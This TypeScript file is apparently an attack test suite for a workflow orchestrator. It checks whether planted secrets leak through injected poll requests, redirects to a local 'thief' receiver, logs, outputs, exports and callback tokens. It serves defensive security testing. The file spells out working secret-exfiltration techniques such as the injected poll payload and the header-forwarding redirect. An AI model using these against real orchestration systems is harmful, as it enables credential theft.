// Attempts to read secrets through tasks' outputs, polls, redirects, logs and errors.

import type { Attack } from "../attack.ts"
import { PLANTED, startReceiver, type Target } from "../target.ts"

const leaked = (text: string): string | null => {
  const found = Object.entries(PLANTED).find(([, value]) => text.includes(value))
  return found === undefined ? null : `the secret ${found[0]} was read`
}

const poll = (url: string, secret: string): string =>
  JSON.stringify({
    ork_defer: { poll: { url, every: "1s", headers: { authorization: { secret } }, done_when: "true", timeout: "5s" } },
  })

/** Runs a task that asks for a poll with a secret in a header; returns what the receiver or the API shows of the secret. */
const pollAttack = async (target: Target, task: object, secret: string): Promise<string | null> => {
  const receiver = await startReceiver((request, response) => response.end(JSON.stringify({ echoed: request.headers })))
  try {
    const workflow = { name: "deferred", params: { text: { type: "string" } }, tasks: { a: { timeout: "10s", ...task } } }
    if ((await target.deploy(workflow)) !== null) return null
    const run = await target.run("deferred", { text: poll(receiver.url, secret) })
    const shown = "id" in run ? await target.everythingOf(run.id, "a") : ""
    return leaked(receiver.requests.map(({ headers }) => headers).join()) ?? leaked(shown)
  } finally {
    receiver.close()
  }
}

const TEXT = "${{ params.text }}"

export const secretAttacks: Attack[] = [
  {
    name: "secrets: an echoed param requests a poll with any secret",
    quick: true,
    run: (target) => pollAttack(target, { command: `echo ${TEXT}` }, "OTHER"),
  },
  {
    name: "secrets: the same with defer: true",
    run: (target) => pollAttack(target, { command: `echo ${TEXT}`, defer: true }, "OTHER"),
  },
  {
    name: "secrets: an output file requests a poll with a secret of another task",
    run: (target) => pollAttack(target, { command: `printf %s ${TEXT} > "$ORK_OUTPUT"`, defer: true }, "OTHER"),
  },
  {
    name: "secrets: a poll sends the task's own secret to a host that its author did not name",
    run: (target) =>
      pollAttack(
        target,
        {
          command: `printf %s ${TEXT} > "$ORK_OUTPUT"`,
          defer: true,
          defer_hosts: ["api.example.com"],
          env: { T: { secret: "OTHER" } },
        },
        "OTHER",
      ),
  },
  {
    name: "secrets: a response that contains the secret is stored unmasked",
    async run(target) {
      const receiver = await startReceiver((request, response) => response.end(JSON.stringify({ echoed: request.headers })))
      try {
        const task = {
          command: `printf %s ${TEXT} > "$ORK_OUTPUT"`,
          defer: true,
          defer_hosts: [`127.0.0.1:${receiver.port}`],
          env: { T: { secret: "OTHER" } },
          timeout: "10s",
        }
        const workflow = { name: "echoing", params: { text: { type: "string" } }, tasks: { a: task } }
        if ((await target.deploy(workflow)) !== null) return null
        const run = await target.run("echoing", { text: poll(receiver.url, "OTHER") })
        return "id" in run ? leaked(await target.everythingOf(run.id, "a")) : null
      } finally {
        receiver.close()
      }
    },
  },
  {
    name: "secrets: a redirect takes headers to another host",
    async run(target) {
      const thief = await startReceiver()
      const door = await startReceiver((_request, response) =>
        response.writeHead(307, { location: `http://127.0.0.1:${thief.port}/` }).end(),
      )
      try {
        const task = {
          executor: "http",
          url: `${door.url}/`,
          method: "POST",
          headers: { "x-token": { secret: "OTHER" } },
          body: { a: 1 },
          timeout: "10s",
        }
        const rejected = await target.deploy({ name: "redirected", tasks: { a: task } })
        if (rejected !== null) throw new Error(rejected)
        await target.run("redirected")
        if (door.requests.length === 0) throw new Error("there was no request")
        return leaked(JSON.stringify(thief.requests))
      } finally {
        thief.close()
        door.close()
      }
    },
  },
  {
    name: "secrets: a redirect takes the headers of a poll to another host",
    async run(target) {
      const thief = await startReceiver()
      const door = await startReceiver((_request, response) =>
        response.writeHead(302, { location: `http://127.0.0.1:${thief.port}/` }).end(),
      )
      try {
        const task = {
          command: `printf %s ${TEXT} > "$ORK_OUTPUT"`,
          defer: true,
          defer_hosts: [`127.0.0.1:${door.port}`],
          env: { T: { secret: "OTHER" } },
          timeout: "10s",
        }
        const rejected = await target.deploy({ name: "led-away", params: { text: { type: "string" } }, tasks: { a: task } })
        if (rejected !== null) throw new Error(rejected)
        await target.run("led-away", { text: poll(door.url, "OTHER") })
        if (door.requests.length === 0) throw new Error("there was no poll")
        return leaked(JSON.stringify(thief.requests))
      } finally {
        thief.close()
        door.close()
      }
    },
  },
  {
    name: "secrets: a wait sends its secret along a redirect, and shows the response that contains it",
    async run(target) {
      const thief = await startReceiver()
      const door = await startReceiver((request, response) => {
        if (request.url === "/away") response.writeHead(302, { location: `http://127.0.0.1:${thief.port}/` }).end()
        else response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ echoed: request.headers }))
      })
      try {
        const wait = { executor: "wait", headers: { "x-token": { secret: "OTHER" } }, every: "1s", timeout: "3s", retries: 0 }
        const tasks = {
          a: { ...wait, url: `${door.url}/echo` },
          b: { ...wait, url: `${door.url}/echo`, until: "response.body.echoed['x-token']" },
          c: { ...wait, url: `${door.url}/away` },
        }
        const rejected = await target.deploy({ name: "waits", tasks })
        if (rejected !== null) throw new Error(rejected)
        const run = await target.run("waits")
        if (!("id" in run)) throw new Error(run.rejected)
        if (!JSON.stringify(door.requests).includes(PLANTED.OTHER)) throw new Error("there was no request with the secret")
        const shown = await Promise.all(["a", "b", "c"].map((task) => target.everythingOf(run.id, task)))
        const exported = await target.call("GET", `/runs/${run.id}/export`)
        return leaked(JSON.stringify(thief.requests)) ?? leaked(shown.join()) ?? leaked(exported.text)
      } finally {
        thief.close()
        door.close()
      }
    },
  },
  {
    name: "secrets: an export shows a secret that is also a param, an output and a log line",
    async run(target) {
      const task = { env: { T: { secret: "OTHER" } }, command: ["printf", "%s\n", '{"a":"${{ params.v }}"}'] }
      const tasks = { a: task, b: { depends_on: ["a"], command: "true", input: { v: "${{ params.v }}" } } }
      const rejected = await target.deploy({ name: "exported", params: { v: { type: "string" } }, tasks })
      if (rejected !== null) throw new Error(rejected)
      const run = await target.run("exported", { v: PLANTED.OTHER })
      if (!("id" in run)) throw new Error(run.rejected)
      const { status, text } = await target.call("GET", `/runs/${run.id}/export`)
      if (status !== 200) throw new Error(text)
      return leaked(text)
    },
  },
  {
    name: "secrets: a task prints its secret, plain and encoded, to its log, output and error",
    quick: true,
    async run(target) {
      const command = 'echo "$T"; echo "$T" >&2; printf \'{"t":"%s"}\' "$T" > "$ORK_OUTPUT"; exit 3'
      if ((await target.deploy({ name: "printing", tasks: { a: { command, env: { T: { secret: "OTHER" } } } } })) !== null)
        return null
      const run = await target.run("printing")
      return "id" in run ? leaked(await target.everythingOf(run.id, "a")) : null
    },
  },
  {
    name: "secrets: a log line contains the callback token",
    async run(target) {
      const command = 'echo "url $ORK_CALLBACK_URL token $ORK_CALLBACK_TOKEN"'
      if ((await target.deploy({ name: "tokens", tasks: { a: { command, defer: true } } })) !== null) return null
      const run = await target.run("tokens")
      if (!("id" in run)) return null
      const { text } = await target.call("GET", `/runs/${run.id}/tasks/a/logs`)
      return /token [\w-]{20,}/.test(text) ? "the log shows the callback token" : null
    },
  },
]
